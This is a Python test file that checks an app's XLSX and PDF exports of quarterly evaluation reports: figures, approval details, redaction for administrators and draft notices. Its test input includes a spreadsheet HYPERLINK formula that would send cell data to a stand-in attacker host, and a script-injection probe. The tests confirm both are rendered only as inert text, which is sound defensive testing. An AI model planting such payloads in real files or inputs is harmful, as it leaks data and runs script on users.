"""An evaluation report's files (analysis/evaluation_files.py): the XLSX read back with openpyxl and the PDF's text,
with their figures, who approved it and when; and hostile lessons — a formula, a script, Chinese — shown literally."""

import io

import openpyxl
import pytest
from django.utils import translation
from pypdf import PdfReader

from accounts.selectors import actor_for
from analysis import evaluation_files, services
from analysis.evaluation_views import reading_of
from analysis.models import EvaluationReport
from tests.analysis.dataset import at
from tests.analysis.evaluation_dataset import evaluation_dataset
from tests.reports.dataset import clock

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")\n<script>alert(1)</script>\n一、加强110接处警现场处置训练。'


def pdf_text(raw: bytes) -> str:
    reader = PdfReader(io.BytesIO(raw))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def render(report: EvaluationReport, fmt: str, reader) -> bytes:
    report = EvaluationReport.objects.select_related(
        "unit", "written_by", "submitted_by", "approved_by", "returned_by"
    ).get(pk=report.pk)
    with translation.override("en"):
        return evaluation_files.render_file(
            report, reading_of(report, actor_for(reader)), "pdf" if fmt == "pdf" else fmt
        )


@pytest.fixture
def approved(world):
    data = evaluation_dataset(world)
    with clock(at(2026, 1, 20, 9)):
        report = services.start_evaluation(unit=world.county, year=2025, quarter=2, by=world.county_supervisor)[0]
        report = services.submit_evaluation(report=report, by=world.county_supervisor, lessons=HOSTILE)
    with clock(at(2026, 1, 20, 9, 30)):
        report = services.approve_evaluation(report=report, by=world.supervisor)
    return data, report


def test_the_workbook_has_the_figures_and_the_lessons_as_text(world, approved):
    data, report = approved
    wb = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx", world.county_supervisor)))
    assert wb.sheetnames == [
        "Summary",
        "Lessons and measures",
        "Cases and officers injured",
        "Cases by month of submission",
        "Top duty scenarios",
        "Top place categories",
        "Repeat attackers",
        "Early warnings raised in the pe",
        "The warnings",
        "Charts",
    ]
    lines = [row[0] for row in wb["Lessons and measures"].iter_rows(min_row=3, values_only=True)]
    assert lines == HOSTILE.splitlines()
    first = wb["Lessons and measures"]["A3"]
    assert (first.value, first.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"点此")', "s")
    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Approved by"].startswith(world.supervisor.full_name or world.supervisor.username)
    assert summary["Figures as approved on"] == "20 Jan 2026 09:30"
    cases = [list(r) for r in wb["Cases and officers injured"].iter_rows(min_row=2, max_row=4, values_only=True)]
    assert cases[0] == ["Cases", 5, 1, 400, 2.5, 1]
    repeat = [list(r) for r in wb["Repeat attackers"].iter_rows(min_row=2, values_only=True)][:2]
    assert repeat == [[data.a1.reference, "张某", 2], [data.a3.reference, "L. S.", 1]]


def test_the_pdf_prints_the_figures_the_lessons_literally_and_who_approved_it(world, approved):
    data, report = approved
    text = pdf_text(render(report, "pdf", world.county_supervisor))
    assert "Case analysis and evaluation" in text
    assert "Cases 5 1 400.0 2.50 1.00" in text
    assert f"{data.a3.reference} L. S. 1" in text
    assert '=HYPERLINK("http://evil.example/?"&A1,"点此")' in text
    assert "<script>alert(1)</script>" in text
    assert "一、加强110接处警现场处置训练。" in text
    who = world.supervisor.full_name or world.supervisor.username
    assert f"Approved by {who} on 20 Jan 2026 09:30." in text
    assert "Not approved" not in text


def test_an_administrator_s_files_count_the_repeat_attackers_without_naming_them(world, approved):
    data, report = approved
    text = pdf_text(render(report, "pdf", world.admin))
    assert data.a1.reference not in text
    assert "2 suspects in 2 of the period's cases have earlier cases against police in the unit's area." in text
    wb = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx", world.admin)))
    assert data.a1.reference not in str([list(r) for ws in wb.worksheets for r in ws.iter_rows(values_only=True)])


def test_a_draft_s_pdf_says_it_is_not_approved(world):
    report = services.start_evaluation(unit=world.county, year=2025, quarter=0, by=world.county_supervisor)[0]
    services.save_lessons(report=report, by=world.county_supervisor, lessons="草稿")
    text = pdf_text(render(report, "pdf", world.county_supervisor))
    assert "Not approved: the figures are those of the time it was generated and may still change." in text
    assert "草稿" in text
